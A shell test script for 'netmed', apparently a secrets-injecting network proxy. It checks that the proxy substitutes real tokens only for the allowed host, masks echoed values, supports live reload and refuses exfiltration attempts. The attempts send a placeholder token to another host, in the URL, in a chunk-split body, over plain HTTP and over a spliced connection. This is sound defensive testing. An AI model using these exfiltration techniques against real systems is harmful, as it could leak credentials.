#!/bin/sh
# t_net_secrets — secret injection and exfiltration attempts through netmed.
# The guest holds only a placeholder. netmed substitutes the real value in
# headers to the secret's host over intercepted TLS, masks the value in
# everything an echoing server sends back, and blocks (and audits) the
# placeholder anywhere else: another host, the URL, the body (even split
# across chunks), plain HTTP, a non-intercepted connection.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/netlib.sh"
net_setup

REAL=ghp_RealValue_0123456789_abcdefXYZ
PH=lanes-secret-GH-4f9c2a7d1e3b5a60
cat >"$T/secrets.json" <<JSON
{"secrets": [{"name": "GH", "value": "$REAL", "placeholder": "$PH", "hosts": ["api.lanes.test"]}]}
JSON
chmod 600 "$T/secrets.json"
cat >"$T/policy.json" <<'JSON'
{"dns": {"mode": "synthetic"},
 "allow": [{"host": "api.lanes.test", "ports": [443, 80], "intercept": true},
           {"host": "other.lanes.test", "ports": [443], "intercept": true},
           {"cidr": "198.51.100.2/32", "ports": [8080]}]}
JSON
# a secrets file readable by others is refused
chmod 644 "$T/secrets.json"
if ip netns exec "$NS_H" "$NETMED" --netns "$NS_L" --policy "$T/policy.json" --ca-dir "$T/ca0" \
    --secrets "$T/secrets.json" >"$T/out" 2>&1; then fail "netmed accepted a 0644 secrets file"; fi
grep -q 'chmod 600' "$T/out" || { cat "$T/out"; fail "no reason for refusing the secrets file"; }
chmod 600 "$T/secrets.json"
net_start_netmed "$T/policy.json" --secrets "$T/secrets.json"
CA=$NETMED_CA/ca.crt

no_real() { # FILE...: the real value appears in none of them
    if grep -l -- "$REAL" "$@"; then fail "real secret value found in $*"; fi
}

# 1. injection: the server gets the real value, the guest never sees it
gcurl --cacert "$CA" -D "$T/h1" -H "Authorization: Bearer $PH" https://api.lanes.test/echo >"$T/b1" ||
    fail "injected request failed"
grep -q "Bearer $REAL" "$W/requests.log" || fail "server did not receive the real value"
no_real "$T/h1" "$T/b1"
grep -q 'Bearer \*\*\*\*' "$T/b1" || { cat "$T/b1"; fail "echoed value not masked in body"; }
grep -qi 'X-Echo-Authorization: Bearer \*\*\*' "$T/h1" || { cat "$T/h1"; fail "echoed value not masked in header"; }
log "ok: injected for api.lanes.test; echo masked (headers and body)"

# 2. echo split across response chunks is still masked
gcurl --cacert "$CA" -H "Authorization: $PH" https://api.lanes.test/stream >"$T/b2" || fail "/stream"
no_real "$T/b2"
grep -q '^start:\*\*\*\**:end$' "$T/b2" || { cat "$T/b2"; fail "chunked echo not masked"; }
log "ok: chunk-split echo masked"

# 3. an encoded (unscannable) response from a secret's host is refused
code=$(gcurl --cacert "$CA" -o "$T/b3" -w '%{http_code}' -H "Authorization: $PH" https://api.lanes.test/gzip)
[ "$code" = 502 ] || fail "gzip echo: HTTP $code"
no_real "$T/b3"
log "ok: encoded response refused"

# 4..8 exfiltration attempts: each answered 403 and never forwarded
: >"$W/requests.log"
code=$(gcurl --cacert "$CA" -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $PH" https://other.lanes.test/)
[ "$code" = 403 ] || fail "placeholder to another host: HTTP $code"
code=$(gcurl --cacert "$CA" -o /dev/null -w '%{http_code}' "https://api.lanes.test/q?token=$PH")
[ "$code" = 403 ] || fail "placeholder in URL: HTTP $code"
code=$(gcurl --cacert "$CA" -o /dev/null -w '%{http_code}' --data-binary "x=1&token=$PH" https://api.lanes.test/post)
[ "$code" = 403 ] || fail "placeholder in body: HTTP $code"
code=$(gcurl -o /dev/null -w '%{http_code}' -H "Authorization: $PH" http://api.lanes.test/)
[ "$code" = 403 ] || fail "placeholder over plain HTTP: HTTP $code"
guest python3 - "$CA" "$PH" <<'PY' || fail "chunk-split placeholder in body was not refused"
import http.client, ssl, sys
ctx = ssl.create_default_context(cafile=sys.argv[1])
c = http.client.HTTPSConnection("api.lanes.test", 443, context=ctx, timeout=10)
ph = sys.argv[2].encode()
try:
    c.request("POST", "/chunks", body=iter([b"a=" + ph[:10], ph[10:20], ph[20:] + b"&b=2"]),
              encode_chunked=True, headers={"Transfer-Encoding": "chunked"})
    r = c.getresponse()
    sys.exit(0 if r.status == 403 else "status %d" % r.status)
except (ConnectionError, http.client.HTTPException):
    sys.exit(0)  # connection cut is also a refusal
PY
# non-intercepted connection (CIDR rule): the placeholder in plain bytes cuts it
if gcurl -o /dev/null -H "X-Token: $PH" http://198.51.100.2:8080/ 2>/dev/null; then
    fail "placeholder over a spliced connection went through"
fi
if grep -F -- "$PH" "$W/requests.log"; then fail "a placeholder reached a server"; fi
grep -q '"local": "203.0.113.11' "$W/requests.log" && fail "request to other.lanes.test was forwarded"
log "ok: other host, URL, body, chunk-split body, plain HTTP, splice — all refused"

# audit: names of secrets used, reasons for blocks, never the value
audit_has '"ev":"http","decision":"allow".*"path":"/echo".*"secrets":\["GH"\]' || fail "secret use not audited"
audit_has '"decision":"deny".*"reason":"placeholder for a secret not allowed to this host"' || fail "other-host block not audited"
audit_has '"reason":"placeholder in the request target"' || fail "URL block not audited"
audit_has '"reason":"placeholder in the request body"' || fail "body block not audited"
audit_has '"reason":"placeholder over plain HTTP"' || fail "plain HTTP block not audited"
audit_has '"reason":"placeholder sent on a connection where it may not be used"' || fail "splice block not audited"
no_real "$NETMED_AUDIT" "$T/netmed.log"
ps -eo args | grep -F -- "$REAL" | grep -v grep && fail "real value on a command line"

# Live reload (what lanesd does on `lanectl secret set`): a new secrets
# file and "secrets-reload" on the control socket. The same netmed keeps
# serving; an intercepted keep-alive connection opened before the change
# stays open and its next request gets the new value; a spliced connection
# opened before the change is cut when it carries the placeholder of a
# secret added by the change.
REAL2=ghp_SecondValue_9876543210_qwertyUVW
NEWV=new-value-abcdef123456
PH2=lanes-secret-NEW-0a1b2c3d4e5f6789
cat >"$T/secrets2.json" <<JSON
{"secrets": [{"name": "GH", "value": "$REAL2", "placeholder": "$PH", "hosts": ["api.lanes.test"]},
             {"name": "NEW", "value": "$NEWV", "placeholder": "$PH2", "hosts": ["api.lanes.test"]}]}
JSON
chmod 600 "$T/secrets2.json"
npid=$NETMED_PID
: >"$W/requests.log"
guest python3 - "$CA" "$PH" "$PH2" "$T/secrets.json" "$T/secrets2.json" "$NETMED" "$NETMED_CTL" <<'PY' ||
import http.client, shutil, socket, ssl, subprocess, sys
ca, ph, ph2, live, new, netmed, ctl = sys.argv[1:8]
c = http.client.HTTPSConnection("api.lanes.test", 443, context=ssl.create_default_context(cafile=ca), timeout=10)
c.request("GET", "/before", headers={"Authorization": "Bearer " + ph})
r = c.getresponse(); r.read()
assert r.status == 200, "before: %d" % r.status
sock, here = c.sock, c.sock.getsockname()
p = socket.create_connection(("198.51.100.2", 8080), timeout=10)
p.sendall(b"GET /plain1 HTTP/1.1\r\nHost: 198.51.100.2:8080\r\n\r\n")
got = b""
while b"\r\n\r\n" not in got:           # the whole response, head and body
    got += p.recv(65536)
head, body = got.split(b"\r\n\r\n", 1)
clen = int([l.split(b":")[1] for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")][0])
while len(body) < clen:
    body += p.recv(65536)
assert head.startswith(b"HTTP/1.1 200"), "plain1: %r" % head[:60]
shutil.copy(new, live)
out = subprocess.run([netmed, "ctl", ctl, "secrets-reload"], capture_output=True, text=True)
assert out.returncode == 0 and '"secrets":2' in out.stdout, "reload: %r" % (out,)
c.request("GET", "/after", headers={"Authorization": "Bearer " + ph, "X-New": ph2})
r = c.getresponse(); r.read()
assert r.status == 200, "after: %d" % r.status
assert c.sock is sock and sock.getsockname() == here, "the intercepted connection was replaced"
p.sendall(b"GET /plain2 HTTP/1.1\r\nHost: 198.51.100.2:8080\r\nX-T: " + ph2.encode() + b"\r\n\r\n")
try:
    got = p.recv(65536)
except ConnectionResetError:
    got = b""
assert not got, "a new secret's placeholder passed an open splice: %r" % got[:60]
PY
    fail "live secrets reload"
[ "$NETMED_PID" = "$npid" ] && kill -0 "$npid" || fail "netmed was restarted for a secrets change"
grep '"path": "/before"' "$W/requests.log" | grep -q "Bearer $REAL\"" || fail "before the reload: old value not injected"
grep '"path": "/after"' "$W/requests.log" | grep -q "Bearer $REAL2\"" || fail "after the reload: new value not injected on the open connection"
grep '"path": "/after"' "$W/requests.log" | grep -q "$NEWV" || fail "after the reload: the added secret not injected"
grep -q '/plain2' "$W/requests.log" && fail "the cut splice request reached the server"
audit_has '"ev":"secrets","count":2' || fail "secrets reload not audited"
no_real "$NETMED_AUDIT" "$T/netmed.log"
grep -l -- "$REAL2" "$NETMED_AUDIT" "$T/netmed.log" && fail "new real value in the audit/log"
# a broken file is refused and the live set stays
echo '{"secrets": [' >"$T/secrets.json"
expect_fail "secrets-reload of a broken file" net_ctl secrets-reload
gcurl --cacert "$CA" -H "Authorization: Bearer $PH" https://api.lanes.test/still >/dev/null || fail "request after a refused reload"
grep '"path": "/still"' "$W/requests.log" | grep -q "Bearer $REAL2\"" || fail "a refused reload changed the live secrets"
log "ok: live secrets reload keeps connections, swaps values, refuses a broken file"
log "PASS"
